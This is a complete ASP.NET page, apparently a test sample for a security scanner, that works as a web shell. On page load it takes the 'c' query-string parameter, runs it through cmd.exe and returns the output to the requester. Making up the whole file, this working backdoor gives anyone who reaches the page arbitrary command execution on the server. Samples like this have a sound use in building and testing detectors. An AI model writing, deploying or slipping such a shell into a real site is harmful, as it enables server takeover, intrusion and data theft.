<%@ Page Language="C#" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
// spamgear test sample: a request parameter run as a command
void Page_Load(object sender, EventArgs e)
{
    string c = Request.QueryString["c"];
    ProcessStartInfo psi = new ProcessStartInfo("cmd.exe", "/c " + c);
    psi.RedirectStandardOutput = true;
    psi.UseShellExecute = false;
    Response.Write(Process.Start(psi).StandardOutput.ReadToEnd());
}
</script>
